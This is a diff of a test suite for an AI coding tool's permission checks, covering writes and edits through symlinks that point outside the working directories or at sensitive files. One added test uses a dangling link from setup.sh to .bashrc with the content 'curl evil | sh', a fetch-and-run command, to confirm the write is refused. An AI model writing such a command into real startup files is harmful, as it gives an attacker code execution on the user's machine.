@@ -60,14 +60,18 @@ describe("run-time symlink re-check (permission.md §10.12)", () => {
     const outsideDir = join(t.sandbox.root, "outside");
     mkdirSync(outsideDir);
     const target = join(outsideDir, "x.txt");
+    writeFileSync(target, "before");
     const link = join(t.sandbox.workspace, "x.txt");
     symlinkSync(target, link);
+    await runTool(read, { file_path: link }, t.ctx);
     const r = await runTool(write, { file_path: link, content: "data" }, t.ctx);
     expect(r.state).toBe("error");
     expect(r.text).toBe(
       `Error: ${link} resolves to ${target}, which is outside the working directories; refusing to write it without explicit permission.`,
     );
-    expect(existsSync(target)).toBe(false);
+    expect(readFileSync(target, "utf8")).toBe("before");
+    const e = await runTool(edit, { file_path: link, old_string: "before", new_string: "after" }, t.ctx);
+    expect(e.text).toMatch(/which is outside the working directories; refusing to edit it/);
   });
 
   it("without auto-allow (the user approved), follows the same link", async () => {
@@ -75,8 +79,10 @@ describe("run-time symlink re-check (permission.md §10.12)", () => {
     const outsideDir = join(t.sandbox.root, "outside");
     mkdirSync(outsideDir);
     const target = join(outsideDir, "x.txt");
+    writeFileSync(target, "before");
     const link = join(t.sandbox.workspace, "x.txt");
     symlinkSync(target, link);
+    await runTool(read, { file_path: link }, t.ctx);
     expect((await runTool(write, { file_path: link, content: "data" }, t.ctx)).state).toBe("success");
     expect(readFileSync(target, "utf8")).toBe("data");
   });
@@ -87,17 +93,36 @@ describe("run-time symlink re-check (permission.md §10.12)", () => {
     mkdirSync(extra);
     t.ctx.workingDirectories = [extra];
     const link = join(t.sandbox.workspace, "y.txt");
+    writeFileSync(join(extra, "y.txt"), "");
     symlinkSync(join(extra, "y.txt"), link);
+    await runTool(read, { file_path: link }, t.ctx);
     expect((await runTool(write, { file_path: link, content: "ok" }, t.ctx)).state).toBe("success");
   });
 
   it("honours additional dangerous files given to the tool", async () => {
     t = makeContext();
     const secret = join(t.sandbox.workspace, ".secrets");
+    writeFileSync(secret, "");
     const link = join(t.sandbox.workspace, "plain.txt");
     symlinkSync(secret, link);
+    await runTool(read, { file_path: link }, t.ctx);
     const custom = new WriteTool({ additionalDangerousFiles: [".secrets"] });
     expect((await runTool(custom, { file_path: link, content: "x" }, t.ctx)).text).toMatch(/sensitive file/);
     expect((await runTool(write, { file_path: link, content: "x" }, t.ctx)).state).toBe("success");
+  });
+
+  it("refuses a dangling link, whose target was never checked, writing nothing", async () => {
+    t = makeContext();
+    const target = join(t.sandbox.home, ".bashrc");
+    const link = join(t.sandbox.workspace, "setup.sh");
+    symlinkSync(target, link);
+    const r = await runTool(write, { file_path: link, content: "curl evil | sh" }, t.ctx);
+    expect(r.state).toBe("error");
+    expect(r.text).toBe(
+      `Error: ${link} is a symbolic link whose target does not exist; refusing to write through it.`,
+    );
+    expect(existsSync(target)).toBe(false);
+    const e = await runTool(edit, { file_path: link, old_string: "a", new_string: "b" }, t.ctx);
+    expect(e.text).toMatch(/is a symbolic link whose target does not exist; refusing to edit through it/);
   });
 });
